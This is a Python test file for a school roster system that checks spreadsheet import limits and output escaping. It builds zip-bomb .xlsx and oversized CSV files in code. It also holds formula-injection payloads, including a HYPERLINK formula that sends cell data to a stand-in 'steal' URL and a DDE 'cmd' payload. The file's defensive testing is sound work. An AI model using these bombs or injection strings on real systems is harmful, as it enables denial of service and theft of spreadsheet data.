"""Spreadsheet files across the school's door (issue #14 item 8): limits before a file eats memory, and text that
stays text on the way out.

The defects reproduced: a 400 KB .xlsx bomb crashed the import with ``MemoryError`` and a 1 MB one took 2.2 GB
and 166 s; a name ``=1+1`` went back out as a live Excel formula; refusals showed Python exception names."""

from __future__ import annotations

import re
import time
import tracemalloc
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlmodel import func, select

from app import spreadsheets, students
from app.data.models import Student
from app.exchange.county_report import CountyGroup, WeekReport, write_report
from app.students.roster_export import export_roster
from app.students.roster_import import import_roster
from app.students.roster_layout import COLUMNS, RosterFileError
from tests.conftest import make_student_input

HEADERS = [c.header + ("*" if c.required else "") for c in COLUMNS]
#: how a Python exception looks when it leaks into a message
EXCEPTION_NAME = re.compile(r"[A-Z][A-Za-z]+(Error|Exception)|BadZipFile|Traceback|line contains|field larger")


def _base_xlsx(path: Path, rows: list[list] | None = None) -> Path:
    wb = Workbook()
    ws = wb.active
    ws.title = "学生名册"
    ws.append(HEADERS)
    for r in rows or []:
        ws.append(r)
    wb.save(path)
    return path


def _with_part(base: Path, out: Path, part: str, chunks) -> Path:
    """``base`` with ``part`` replaced by the streamed ``chunks`` (a bomb is written without holding it)."""
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != part:
                dst.writestr(info, src.read(info.filename))
        info = zipfile.ZipInfo(part)
        info.compress_type = zipfile.ZIP_DEFLATED
        with dst.open(info, "w", force_zip64=True) as fh:
            for chunk in chunks:
                fh.write(chunk)
    return out


def _sheet(rows_xml) -> object:
    yield b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    yield from rows_xml
    yield b"</sheetData></worksheet>"


def _refused(school_db, path: Path, *, trace: bool = True) -> tuple[str, float, int]:
    """Import ``path``: the refusal's message, the seconds it took and the peak memory it used (``trace``)."""
    before = _students(school_db)
    if trace:
        tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(RosterFileError) as info:
        import_roster(school_db, school_db.actors["reg"], path)
    took = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1] if trace else 0
    tracemalloc.stop()
    assert _students(school_db) == before  # nothing imported
    message = str(info.value)
    assert path.name in message and not EXCEPTION_NAME.search(message), message
    return message, took, peak


def _students(db) -> int:
    with db.session() as s:
        return s.exec(select(func.count()).select_from(Student)).one()


# --- reading ---------------------------------------------------------------------------------------------


def test_zip_bomb_is_refused_from_its_directory_before_anything_is_unpacked(school_db, tmp_path):
    base = _base_xlsx(tmp_path / "base.xlsx")
    row = b'<row r="2"><c r="A2" t="inlineStr"><is><t>' + b"x" * 4000 + b"</t></is></c></row>"
    n = spreadsheets.MAX_UNPACKED_BYTES // len(row) + 10
    bomb = _with_part(base, tmp_path / "炸弹.xlsx", "xl/worksheets/sheet1.xml", _sheet(row for _ in range(n)))
    assert bomb.stat().st_size < 4 * 2**20  # a few MB that unpack to more than 512 MB
    message, took, peak = _refused(school_db, bomb)
    assert "解压后" in message and "512 MB" in message
    assert peak < 20 * 2**20 and took < 10


def test_a_huge_shared_strings_part_is_refused(school_db, tmp_path):
    base = _base_xlsx(tmp_path / "base.xlsx", [["张三"]])
    item = b"<si><t>a</t></si>"
    n = spreadsheets.MAX_PART_BYTES // len(item) + 10
    strings = (b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">', *(item for _ in range(n)), b"</sst>")
    bomb = _with_part(base, tmp_path / "字符串.xlsx", "xl/sharedStrings.xml", [b"".join(strings)])
    message, _took, peak = _refused(school_db, bomb)
    assert "xl/sharedStrings.xml" in message and peak < 100 * 2**20


def _header_row() -> bytes:
    cells = "".join(f'<c r="{spreadsheets.column_name(i)}1" t="inlineStr"><is><t>{h}</t></is></c>'
                    for i, h in enumerate(HEADERS))
    return f'<row r="1">{cells}</row>'.encode()


def test_a_small_file_of_endless_cells_stops_at_the_cell_limit(school_db, tmp_path):
    """Under the header, one cell far to the right in each row: every row reads as 16,384 cells. Before the limit
    the import went through all 3 billion of them (minutes of CPU) and then imported nothing, saying nothing."""
    base = _base_xlsx(tmp_path / "base.xlsx")
    rows = (f'<row r="{r}"><c r="XFD{r}"><v>1</v></c></row>'.encode() for r in range(2, 200_001))
    bomb = _with_part(base, tmp_path / "单元格.xlsx", "xl/worksheets/sheet1.xml", _sheet([_header_row(), *rows]))
    assert bomb.stat().st_size < 2**20
    message, took, _peak = _refused(school_db, bomb, trace=False)
    assert "单元格" in message and f"{spreadsheets.MAX_CELLS:,}" in message
    assert took < 30


def test_a_cell_longer_than_excel_allows_is_named(school_db, tmp_path):
    base = _base_xlsx(tmp_path / "base.xlsx")
    long = "x" * (spreadsheets.MAX_CELL_CHARS + 1)
    rows = [_header_row(),
            f'<row r="2"><c r="A2" t="inlineStr"><is><t>张三</t></is></c><c r="B2" t="inlineStr"><is><t>{long}</t></is>'
            f'</c></row>'.encode()]
    path = _with_part(base, tmp_path / "长.xlsx", "xl/worksheets/sheet1.xml", _sheet(rows))
    message, _t, _p = _refused(school_db, path)
    assert "第 2 行 B 列" in message and "32,767" in message


def test_csv_with_an_endless_line_is_refused(school_db, tmp_path):
    path = tmp_path / "长行.csv"
    path.write_text(",".join(HEADERS) + "\n" + "张三," * (spreadsheets.MAX_LINE_CHARS // 3 + 10) + "\n",
                    encoding="utf-8")
    message, _t, peak = _refused(school_db, path)
    assert "第 2 行" in message and peak < 100 * 2**20


def test_broken_csv_is_refused_in_plain_words(school_db, tmp_path):
    """An unclosed quote swallows the rest of the file into one cell: csv's own limit, said plainly."""
    path = tmp_path / "坏.csv"
    path.write_bytes('姓名,性别\n"张三,男\n'.encode("utf-8") + b"x" * 200_000 + b"\n")
    message, _t, _p = _refused(school_db, path)
    assert "单元格超过" in message and "第 " in message


def test_an_oversized_file_is_refused_before_it_is_opened(school_db, tmp_path):
    path = tmp_path / "巨大.xls"
    with open(path, "wb") as fh:
        fh.write(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
        fh.truncate(spreadsheets.MAX_FILE_BYTES + 1)  # sparse: no disk space is used
    message, took, peak = _refused(school_db, path)
    assert "64 MB" in message and peak < 2**20


def test_damaged_files_are_refused_in_plain_words(school_db, tmp_path):
    good = _base_xlsx(tmp_path / "好.xlsx", [["张三", "男"]])
    data = good.read_bytes()
    cases = {"半截.xlsx": data[: len(data) // 2], "假的.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x01" * 600}
    broken_xml = _with_part(good, tmp_path / "内容坏.xlsx", "xl/worksheets/sheet1.xml", [b"<worksheet><sheetData><row"])
    for name, content in cases.items():
        (tmp_path / name).write_bytes(content)
    for path in [tmp_path / n for n in cases] + [broken_xml]:
        message, _t, _p = _refused(school_db, path)
        assert "损坏" in message or "不是有效" in message


def test_a_real_roster_is_far_inside_the_limits(school_db, tmp_path):
    cid = school_db.class_ids["三年级(1)班"]
    with school_db.transaction() as s:
        for i in range(30):
            students.create_student(s, school_db.actors["reg"], make_student_input(cid, name=f"学生{i}", seq=2 * i + 1))
        out = tmp_path / "名册.xlsx"
        export_roster(s, school_db.actors["reg"], out)
    spreadsheets.check_xlsx(out)
    plan, result = import_roster(school_db, school_db.actors["reg"], out)
    assert plan.ok and len(plan.unchanged) == 30


# --- writing ---------------------------------------------------------------------------------------------

FORMULAS = ["=1+1", '=HYPERLINK("http://example.com/x","点我")', "+86 139", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_put_writes_formula_looking_text_as_text(tmp_path, text):
    wb = Workbook()
    spreadsheets.put(wb.active.cell(row=1, column=1), text)
    spreadsheets.append_row(wb.active, ["普通", text, 3])
    wb.save(tmp_path / "f.xlsx")
    with zipfile.ZipFile(tmp_path / "f.xlsx") as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml  # no formula anywhere in the sheet
    ws = load_workbook(tmp_path / "f.xlsx").active
    for cell in (ws["A1"], ws["B2"]):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert ws["C2"].value == 3 and ws["A2"].value == "普通" and not ws["A2"].quotePrefix


def test_roster_export_sends_a_formula_name_out_as_text_and_reads_it_back(school_db, tmp_path):
    cid = school_db.class_ids["三年级(1)班"]
    evil = '=HYPERLINK("http://example.com/steal?id="&F2,"点我")'
    with school_db.transaction() as s:
        students.create_student(s, school_db.actors["reg"],
                                make_student_input(cid, name="=1+1", address=evil[:100], village="@村"))
        out = tmp_path / "名册.xlsx"
        export_roster(s, school_db.actors["reg"], out)
    with zipfile.ZipFile(out) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    ws = load_workbook(out).worksheets[0]
    header = [c.value for c in ws[1]]
    name = ws.cell(row=2, column=header.index("姓名*") + 1)
    assert (name.value, name.data_type, name.quotePrefix) == ("=1+1", "s", True)
    plan, _result = import_roster(school_db, school_db.actors["reg"], out)
    assert plan.ok and len(plan.unchanged) == 1  # read back exactly as it was


def test_county_report_writes_school_names_as_text(tmp_path):
    row = {"school": "=cmd|' /C calc'!A0", "code": "3161000123"}
    total = {"school": "合计", "code": "1 所学校"}
    report = WeekReport(date(2026, 11, 20), date(2026, 11, 26), [row], total,
                        [CountyGroup("316100", "某县", [row], total)])
    out = write_report(report, tmp_path / "周报.xlsx")
    with zipfile.ZipFile(out) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    cells = [c for line in load_workbook(out).active.iter_rows() for c in line if c.value == row["school"]]
    assert [c.data_type for c in cells] == ["s"]
